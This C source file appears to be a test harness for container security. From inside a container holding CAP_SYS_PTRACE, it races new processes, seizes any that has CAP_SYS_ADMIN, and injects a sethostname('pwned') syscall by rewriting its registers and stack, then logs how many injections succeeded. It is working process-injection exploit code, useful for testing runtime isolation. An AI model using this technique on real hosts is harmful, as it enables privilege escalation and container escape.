/* Runs inside a container with CAP_SYS_PTRACE and races every new process of
 * its pid namespace: one whose CapEff has CAP_SYS_ADMIN (which the container
 * lacks) is seized (PTRACE_SEIZE) and made to call sethostname("pwned").
 * Usage: ptrace_injector RESULT STOPFILE; loops until STOPFILE exists (at most
 * 120 s), then writes "seen=N full=F attached=A injected=I" to RESULT. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
static int full_caps(int pid) {
    char p[64], buf[4096]; snprintf(p, sizeof p, "/proc/%d/status", pid);
    int fd = open(p, O_RDONLY); if (fd < 0) return -1;
    int n = read(fd, buf, sizeof buf - 1); close(fd); if (n <= 0) return -1; buf[n] = 0;
    char *c = strstr(buf, "CapEff:\t"); if (!c) return -1;
    unsigned long long v = strtoull(c + 8, 0, 16);
    return (v & (1ULL << 21)) != 0; /* CAP_SYS_ADMIN */
}
static int inject(int pid) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) return 0;
    int st; ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st)) return 1;
    struct user_regs_struct r, s; ptrace(PTRACE_GETREGS, pid, 0, &r); s = r;
    long insn = ptrace(PTRACE_PEEKTEXT, pid, (void *)(r.rip - 2), 0);
    if ((insn & 0xffff) != 0x050f) { ptrace(PTRACE_DETACH, pid, 0, 0); return 2; }
    unsigned long addr = (r.rsp - 512) & ~7UL;
    ptrace(PTRACE_POKEDATA, pid, (void *)addr, (void *)0x000064656e7770L); /* "pwned\0" */
    r.rip -= 2; r.rax = SYS_sethostname; r.orig_rax = -1; r.rdi = addr; r.rsi = 5;
    ptrace(PTRACE_SETREGS, pid, 0, &r);
    ptrace(PTRACE_SYSCALL, pid, 0, 0); waitpid(pid, &st, __WALL); /* entry */
    ptrace(PTRACE_SYSCALL, pid, 0, 0); waitpid(pid, &st, __WALL); /* exit */
    struct user_regs_struct o; ptrace(PTRACE_GETREGS, pid, 0, &o);
    ptrace(PTRACE_SETREGS, pid, 0, &s);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return o.rax == 0 ? 3 : 2;
}
int main(int argc, char **argv) {
    const char *result = argv[1], *stop = argv[2];
    time_t end = time(NULL) + 120; long seen = 0, full = 0, att = 0, inj = 0, loops = 0;
    static unsigned char done[65536]; int base = getpid() + 1; char p[64]; struct stat sb;
    for (;;) {
        if (++loops % 1024 == 0 && (access(stop, F_OK) == 0 || time(NULL) > end)) break;
        for (int pid = base; pid < base + 32 && pid < 65536; pid++) {
            if (done[pid]) continue;
            int f = full_caps(pid); if (f < 0) continue;
            if (!f) { done[pid] = 1; seen++; continue; }
            done[pid] = 1; seen++; full++;
            int k = inject(pid); if (k >= 1) att++; if (k == 3) inj++;
        }
        while (base < 65000) { snprintf(p, sizeof p, "/proc/%d", base); if (stat(p, &sb) == 0 || !done[base]) break; base++; }
    }
    FILE *o = fopen(result, "w"); fprintf(o, "seen=%ld full=%ld attached=%ld injected=%ld\n", seen, full, att, inj); fclose(o);
    return 0;
}
